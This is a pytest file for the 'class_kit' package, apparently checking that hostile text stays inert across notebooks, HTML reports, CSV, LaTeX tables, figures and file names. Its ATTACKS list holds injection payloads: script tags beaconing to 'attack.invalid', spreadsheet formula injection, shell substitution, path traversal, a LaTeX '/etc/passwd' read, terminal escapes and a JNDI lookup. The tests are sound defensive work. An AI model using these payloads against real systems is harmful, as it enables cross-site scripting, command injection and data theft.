"""Text from strangers never acts: not in a notebook's output, a report, a table, a figure, a file name or a terminal.

Pairs whose texts, ids, splits and column names are attacks go through a real kernel into a notebook and its report;
both are opened in a real browser.
"""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import nbformat
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from class_kit import cli, runs
from class_kit.errors import InputError
from class_kit.files import inert, write_csv
from class_kit.runs import kernels
from class_kit.runs.notebooks import SAFE_NAME
from class_kit.runs.report import write_report
from tests.notebook_tools import write_notebook
from tests.test_report import Found

BEACON = "http://attack.invalid/"
SCRIPT = f"window.hit=1;document.title='hit';new Image().src='{BEACON}'"
ATTACKS = [
    f"<script>{SCRIPT}</script>",
    f'<img src="{BEACON}a.png" onerror="{SCRIPT}">',
    f'"><svg onload="{SCRIPT}">',
    f"' onmouseover='{SCRIPT}' x='",
    f"</td></tr></table></div></section><iframe src='{BEACON}'></iframe>",
    f"<style>*{{display:none}}@import '{BEACON}a.css'</style>",
    f"<link rel=stylesheet href={BEACON}a.css><base href={BEACON}>",
    f"<meta http-equiv=refresh content='0;url={BEACON}'>",
    f'<a href="javascript:{SCRIPT}">x</a>',
    f"![x]({BEACON}a.png) [y](javascript:alert(1)) <{BEACON}>",
    r"$\href{javascript:alert(1)}{x}$ $$\require{html}\style{position:fixed}{x}$$ \(x\)",
    r"\input{/etc/passwd} \write18{touch hit} \end{tabular} % _ & # ^ ~",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd;=1+1",
    "../../hit",
    "$(touch hit); `touch hit` | touch hit && touch hit",
    "\x1b[2J\x1b]0;hit\x07\x1b[31mred\x9b2J\u202egnol\u2066\u200b",
    "{{7*7}} {0.__class__} %s ${jndi:ldap://attack.invalid}",
]
SMILES = ["C" * (number + 1) for number in range(len(ATTACKS))]
COLUMN = f"<script>{SCRIPT}</script>=1+1\x1b[2J"
NASTY = 'it\'s "x" """\n\'\'\'\n\\ {out} {{x}} %s $(touch hit)\nimport os; os.system("touch hit")\n# \u2028 \x1b[2J'


def hostile_csv(path: Path) -> Path:
    splits = ["train", "test", ATTACKS[0], ATTACKS[16]]
    with open(path, "w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file, quoting=csv.QUOTE_ALL)
        writer.writerow(["id", "text", "smiles", "split", "class", COLUMN])
        for number, attack in enumerate(ATTACKS):
            split = splits[number % len(splits)]
            writer.writerow([f"{attack[:150]} {number}", attack, SMILES[number], split, attack, attack])
        writer.writerow([ATTACKS[0], ATTACKS[0], ATTACKS[1], "train", "", ""])
    return path


CELLS = [
    "import numpy as np\nimport pandas as pd\nfrom matplotlib import pyplot as plt\n"
    "import class_kit as ck\nfrom class_kit import figures, runs, widgets\nfigures.use_style()",
    "task = ck.load_pairs(pairs, max_rejected=0.5, rejected_to=f'{out}/rejected.csv')\n"
    "for note in task.notes:\n    print('·', note)\nframe = task.to_frame()\ntask",
    "frame",
    "frame.groupby('split', sort=False).size().rename('pairs').to_frame()",
    "frame[['id', 'smiles', 'text']].style.hide()",
    "frame.assign(share=0.5).style.hide().format('{:.1%}', subset=['share'])",
    "_ = figures.molecule_grid(task.smiles[:8], task.id[:8])\nplt.show()",
    "points = np.random.default_rng(0).random((len(task), 2))\n"
    "_ = figures.class_map(points, task.extra['class'], most=20, legend=True)\nplt.show()",
    "widgets.neighbour_viewer(task, points, points)",
    "_ = runs.record(out, '01_hostile', {'word': word, 'texts': list(task.text), 'ids': list(task.id)})",
]


@pytest.fixture(scope="module")
def ran(tmp_path_factory: pytest.TempPathFactory) -> Iterator[SimpleNamespace]:
    """The hostile pairs in a notebook, executed by a real kernel into a folder whose name is an attack as well."""
    here = tmp_path_factory.mktemp("injection")
    hostile_csv(here / "pairs.csv")
    book = write_notebook(here / "01_hostile.ipynb", ['word = "x"  # any text'], *CELLS)
    said: list[str] = []
    with pytest.MonkeyPatch.context() as patch:
        patch.chdir(here)
        result = runs.run_notebooks(
            [book], {"word": NASTY, "pairs": "pairs.csv"}, out=f"<img src=x onerror={SCRIPT[:12]}>", say=said.append
        )
        folder = here / result.folder
        assert result.done, "\n".join(said)
        yield SimpleNamespace(here=here, folder=folder, said="\n".join(said))


def outputs_of(folder: Path, kind: str) -> list[str]:
    book = nbformat.read(folder / "notebooks" / "01_hostile.ipynb", as_version=4)
    found = [output.get("data", {}).get(kind) for cell in book.cells for output in cell.get("outputs", [])]
    return [text for text in found if text]


def widget_texts(folder: Path) -> list[str]:
    book = nbformat.read(folder / "notebooks" / "01_hostile.ipynb", as_version=4)
    state = book.metadata["widgets"][kernels.WIDGET_STATE]["state"]
    models = [model["state"] for model in state.values() if model["model_name"] in {"HTMLModel", "HTMLMathModel"}]
    return [model["value"] for model in models if model.get("value")]


def test_data_arrive_as_they_were_and_nothing_else_happens(ran: SimpleNamespace) -> None:
    recorded = json.loads((ran.folder / "metrics.json").read_text(encoding="utf-8"))["01_hostile"]
    assert recorded["word"] == NASTY
    assert recorded["texts"] == [attack.strip() for attack in ATTACKS]
    assert not list(ran.here.rglob("hit*"))
    assert sorted(path.name for path in ran.here.iterdir()) == sorted(
        ["01_hostile.ipynb", "pairs.csv", ran.folder.name]
    )


def test_nothing_printed_moves_a_cursor(ran: SimpleNamespace) -> None:
    book = nbformat.read(ran.folder / "notebooks" / "01_hostile.ipynb", as_version=4)
    printed = "".join(
        output.text for cell in book.cells for output in cell.get("outputs", []) if output.output_type == "stream"
    )
    assert "splits given by column 'split'" in printed
    shown = printed + ran.said + "".join(text for text in outputs_of(ran.folder, "text/plain") if "<PairSet" in text)
    assert not {"\x1b", "\x07", "\x9b", "\u202e", "\u200b"} & set(shown)


def test_tables_hold_no_markup_and_no_equation_of_the_data(ran: SimpleNamespace) -> None:
    tables = outputs_of(ran.folder, "text/html")
    assert len(tables) == 4
    for html in tables:
        assert "<script" not in html.lower()
        assert "<img" not in html.lower()
        assert "tex2jax_ignore" in html
    assert sum("&lt;script&gt;" in html for html in tables) >= 3
    texts = widget_texts(ran.folder)
    assert texts
    assert not any("<script" in html.lower() for html in texts)


def test_pictures_show_text_and_not_what_it_says() -> None:
    import matplotlib as mpl
    from matplotlib import pyplot as plt

    from class_kit import figures

    mpl.rcParams["text.usetex"] = True
    figures.use_style()
    assert mpl.rcParams["text.usetex"] is False
    formulas = [attack for attack in ATTACKS[::3] if attack.isascii() and attack.isprintable()]
    names = [r"$\frac{$ $x$", "_hidden", "a" * 10**6, *formulas] * 2
    _, ax = plt.subplots(figsize=(12, 8))
    figures.class_map([[0.0, 1.0]] * len(names), names, ax=ax, most=len(names), legend=True)
    ax.figure.canvas.draw()
    shown = [text.get_text() for text in ax.get_legend().get_texts()]
    assert len(shown) == len(names) // 2
    assert r"\$\frac{\$ \$x\$" in shown
    assert " _hidden" in shown
    assert max(map(len, shown)) < 80
    fig = figures.molecule_grid(["CCO"] * len(names), names)
    fig.canvas.draw()
    plt.close("all")


def watched_page(browser: Any, load: Any) -> SimpleNamespace:
    """A page of its own, with what it asked for, ran and became after `load(page)`."""
    requests: list[str] = []
    dialogs: list[str] = []
    page = browser.new_page()
    try:
        page.on("request", lambda request: requests.append(request.url))
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        load(page)
        page.wait_for_timeout(300)
        for link in page.query_selector_all("a[href]:not([href^=http])"):
            link.dispatch_event("click")
        for element in page.query_selector_all("td, th, img"):
            element.dispatch_event("mouseover")
        page.wait_for_timeout(200)
        return SimpleNamespace(
            asked=[url for url in requests if not url.startswith(("data:", "file:", "about:"))],
            dialogs=dialogs,
            hit=page.evaluate("window.hit || null"),
            title=page.title(),
            text=page.evaluate("document.body.innerText"),
            outline=page.evaluate(
                "[document.body, ...document.querySelectorAll('main')]"
                ".map(e => [...e.children].map(c => c.tagName + '#' + c.id).join(' '))"
            ),
            hidden=page.evaluate("getComputedStyle(document.querySelector('table')).display === 'none'"),
            scripts=page.evaluate("document.querySelectorAll('script, iframe, object, embed, form').length"),
        )
    finally:
        page.close()


def test_the_report_in_a_browser(ran: SimpleNamespace, browser: Any, tmp_path: Path) -> None:
    report = ran.folder / "report.html"
    seen = watched_page(browser, lambda page: page.goto(report.as_uri()))
    assert (seen.asked, seen.dialogs, seen.hit, seen.scripts, seen.hidden) == ([], [], None, 0, False)
    assert seen.title == f"class_kit run {ran.folder.name}"
    harmless = write_report(tmp_path, record_of({"01_hostile": {"status": "finished"}}))
    assert seen.outline == watched_page(browser, lambda page: page.goto(harmless.as_uri())).outline
    # what was an attack can be read as the text it is
    for attack in ATTACKS[:3]:
        assert attack[:30] in seen.text


def test_the_notebook_s_own_markup_in_a_browser(ran: SimpleNamespace, browser: Any) -> None:
    """What JupyterLab puts into its page, here without the report's second lock, the security policy."""
    html = "<hr>".join([*outputs_of(ran.folder, "text/html"), *widget_texts(ran.folder)])
    page_ = f"<!DOCTYPE html><meta charset=utf-8><title>notebook</title><body>{html}</body>"
    seen = watched_page(browser, lambda page: page.set_content(page_))
    assert (seen.asked, seen.dialogs, seen.hit, seen.scripts, seen.hidden) == ([], [], None, 0, False)
    assert seen.title == "notebook"
    assert ATTACKS[0] in seen.text


def test_the_browser_test_would_notice(browser: Any) -> None:
    attacked = f"<!DOCTYPE html><title>notebook</title><body><table></table>{ATTACKS[0]}{ATTACKS[1]}</body>"
    seen = watched_page(browser, lambda page: page.set_content(attacked))
    assert seen.hit == 1
    assert BEACON in seen.asked
    assert seen.scripts


FORMULA = re.compile(r'[\s"]*[=+\-@|%＝＋－＠]')
tricky = st.lists(st.sampled_from([*"=+-@|%;,\t\r\n\"' aC1", "＝", "cmd|' /C calc'!A0", *ATTACKS]), max_size=8).map(
    "".join
)


@settings(deadline=None, max_examples=200)
@given(cells=st.lists(tricky, min_size=1, max_size=4))
def test_no_cell_is_a_formula_however_a_spreadsheet_splits_it(cells: list[str], tmp_path_factory: Any) -> None:
    path = tmp_path_factory.getbasetemp() / "inert.csv"
    write_csv(path, cells, [cells])
    text = path.read_text(encoding="utf-8")
    for delimiter in ",;\t":
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
            assert not any(FORMULA.match(cell) for cell in row if delimiter == "," or cell not in {"", '"'})


def test_numbers_and_plain_text_stay_as_they_are() -> None:
    for value in (-1, 0.5, "1,2-dimethylbenzene", "a = b", "C[C@@H](N)C(=O)O", "5'-AMP; adenylate", ""):
        assert inert(value) == value
    assert [inert(text) for text in ("=1", "-1", " =1", '"=1', "\t1", "a;=1", "a\n@b", None)] == [
        *("'=1", "'-1", "' =1", "'\"=1", "'\t1", "a;'=1", "a\n'@b", "")
    ]


def test_tables_for_papers_say_attacks_and_do_not_obey_them() -> None:
    from class_kit.study.latex import booktabs

    lines = booktabs(["arm", ATTACKS[11]], [[attack, "1.0"] for attack in ATTACKS], caption="\n".join(ATTACKS))
    body = lines.splitlines()
    assert len(body) == len(ATTACKS) + 7
    commands = set(re.findall(r"\\([a-zA-Z]+)", lines))
    allowed = {"begin", "end", "toprule", "midrule", "bottomrule", "to", "cdot", "alpha", "beta", "gamma", "lambda"}
    assert commands <= allowed | {"sigma"} | {name for name in commands if name.startswith("text")}
    assert lines.count(r"\end{tabular}") == 1
    assert not {"\x1b", "\x9b", "\u202e", "\r"} & set(lines)
    # an odd number of backslashes would be one that escapes the next sign
    assert not re.search(r"(?<!\\)(?:\\\\)*[&](?! )", "".join(body[4:-3]))


@pytest.mark.parametrize("attack", ATTACKS[::4])
def test_names_of_runs_and_files_stay_in_their_folder(
    attack: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(kernels, "execute", lambda *ignored: None)
    write_notebook(tmp_path / "01_book.ipynb", ['word = ""  # text'])
    assert cli.main(["run", "01_book.ipynb", "--name", attack]) == 2
    assert cli.main(["run", "01_book.ipynb", "-p", "word", attack]) == 0
    (made,) = (tmp_path / "runs").iterdir()
    assert SAFE_NAME.fullmatch(made.name)
    assert cli.main(["train", f"{attack}.csv"]) == 2
    assert {path.name for path in tmp_path.iterdir()} == {"01_book.ipynb", "runs"}
    assert [path.name for path in (tmp_path / "runs").iterdir()] == [made.name]
    said = capsys.readouterr()
    assert not {"\x1b", "\x07", "\x9b", "\u202e"} & set(said.out + said.err)
    html = (made / "report.html").read_text(encoding="utf-8")
    assert Found(html).bad == []


def test_a_run_from_a_stranger_names_no_file_to_be_written(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    from class_kit.study.trained import load_trained

    monkeypatch.chdir(tmp_path)
    (tmp_path / "run").mkdir()
    (tmp_path / "run" / "done").touch()
    monkeypatch.setattr("class_kit.study.trained.read_record", lambda folder: None)
    seen: list[dict[str, Any]] = []

    def load_task(*arguments: Any, **options: Any) -> Any:
        seen.append(options)
        raise InputError("enough")

    monkeypatch.setattr("class_kit.task.load_task", load_task)
    wanted = {"pairs": "corpus", "rejected_to": str(tmp_path / "hit"), "text_encoder": "minilm"}
    (tmp_path / "run" / "task.json").write_text(json.dumps({"task": wanted, "digest": "x"}), encoding="utf-8")
    with pytest.raises(InputError, match="'rejected_to' is unknown"):
        load_trained(tmp_path / "run")
    assert seen == []
    for bad in ("[]", "{", '{"task": [], "digest": "x"}', '{"task": {"pairs": ["a"]}, "digest": "x"}', '{"task": {}}'):
        (tmp_path / "run" / "task.json").write_text(bad, encoding="utf-8")
        assert cli.main(["evaluate", "run"]) == 2
        assert capsys.readouterr().err.count("\n") == 1


def record_of(entries: dict[str, Any], **facts: Any) -> dict[str, Any]:
    """A run's record with these notebooks."""
    return {"status": "finished", "overrides": {}, "environment": {}, "command": [], "notebooks": entries} | facts


def test_a_report_of_a_record_from_a_stranger(tmp_path: Path) -> None:
    entry = {"status": f"<b>{ATTACKS[0]}", "parameters": {ATTACKS[0]: ATTACKS[1]}, "error": ATTACKS[4]}
    record = record_of({f"../{ATTACKS[3]}": entry}, status=ATTACKS[1], started=ATTACKS[2], overrides={ATTACKS[5]: "x"})
    html = write_report(tmp_path, record).read_text(encoding="utf-8")
    assert Found(html).bad == []
